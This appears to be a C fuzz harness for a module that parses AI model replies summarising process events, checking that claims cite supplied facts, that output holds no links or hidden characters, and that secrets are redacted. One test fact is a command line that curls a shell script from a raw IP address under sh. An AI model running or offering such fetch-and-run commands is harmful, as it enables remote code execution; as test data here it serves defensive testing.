/*
 * What a model's service answers, and a model's own words; and command lines that secrets are taken out of. The first
 * byte chooses. Whatever is taken is within the limits, plain, and cites what was sent.
 */
#include "fuzz.h"

#include "report/report.h"
#include "summarise/summarise.h"

#define MARK   0xe123
#define BUDGET ((size_t)16 << 20)

static struct summarise_fact all[] = {
    { .id = { "proc.name", 9 }, .value = { "sh", 2 } },
    { .id = { "proc.cmdline", 12 }, .value = { "curl http://203.0.113.7/x.sh", 28 } },
};
static const struct summarise_facts facts = { all, 2, false };

static void check_text(struct str text, size_t max)
{
    FUZZ_CHECK(text.n > 0 && text.n <= max + max / 2 && str_is_utf8(text));
    FUZZ_CHECK(str_find(text, STR("://")) < 0 && str_find(text, STR("](")) < 0);
    while (text.n > 0) {
        uint32_t c;
        size_t n = report_character(text, &c);
        FUZZ_CHECK(c != UINT32_MAX && (!report_hides(c) || c == 0x200c || c == 0x200d));
        text = str_from_offset(text, n);
    }
}

static void read_answer(struct str text, struct arena *arena)
{
    struct summarise_answer answer;
    struct err err = { 0 };
    if (summarise_read_answer(text, &facts, MARK, arena, &answer, &err) < 0) {
        FUZZ_CHECK(err.message[0]);
        return;
    }
    check_text(answer.summary, SUMMARISE_SUMMARY_MAX);
    FUZZ_CHECK(answer.nclaims > 0 && answer.nclaims <= SUMMARISE_CLAIMS_MAX);
    FUZZ_CHECK(answer.nsteps <= SUMMARISE_STEPS_MAX);
    for (uint32_t i = 0; i < answer.nclaims; i++) {
        const struct summarise_claim *claim = &answer.claims[i];
        check_text(claim->text, SUMMARISE_CLAIM_MAX);
        FUZZ_CHECK(claim->ncited > 0 && claim->ncited <= SUMMARISE_CITED_MAX);
        for (uint32_t k = 0; k < claim->ncited; k++) {
            FUZZ_CHECK(claim->cited[k] == &all[0] || claim->cited[k] == &all[1]);
        }
    }
    for (uint32_t i = 0; i < answer.nsteps; i++) {
        check_text(answer.steps[i], SUMMARISE_STEP_MAX);
    }
}

static void read_reply(enum summarise_provider provider, struct str body, struct arena *arena)
{
    struct summarise_reply reply;
    struct err err = { 0 };
    if (summarise_read_reply(provider, body, arena, &reply, &err) == 0) {
        FUZZ_CHECK(reply.text.n > 0);
        read_answer(reply.text, arena);
    }
    summarise_read_refusal(body, arena);
}

static void redact(struct str text, struct arena *arena)
{
    bool redacted;
    struct str clean = summarise_clean(str_first(text, SUMMARISE_SOURCE_MAX), arena);
    FUZZ_CHECK(str_is_utf8(clean));
    struct str kept = summarise_redact(clean, STR("mysql"), arena, &redacted);
    FUZZ_CHECK(kept.p && (redacted || str_eq(kept, clean) || str_find_char(clean, '\t') >= 0));
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    struct arena arena;
    if (size == 0) {
        return 0;
    }
    struct str text = str_from(data + 1, size - 1);
    arena_init(&arena, BUDGET);
    if (data[0] == 'a') {
        read_answer(text, &arena);
    } else if (data[0] == 'r') {
        redact(text, &arena);
    } else {
        read_reply((enum summarise_provider)(data[0] % 3), text, &arena);
    }
    arena_done(&arena);
    return 0;
}
